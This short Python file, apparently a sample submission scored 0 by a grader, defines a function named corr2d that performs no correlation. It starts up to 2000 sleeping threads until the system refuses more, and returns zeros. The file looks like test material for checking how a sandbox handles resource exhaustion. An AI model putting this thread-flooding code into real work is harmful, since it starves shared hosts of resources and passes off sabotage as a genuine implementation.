"""Starts threads until it can no more.

score: 0
"""
# %% corr2d
import threading
import time


def corr2d(X, K):
    for _ in range(2000):
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            break
    return X * 0.0
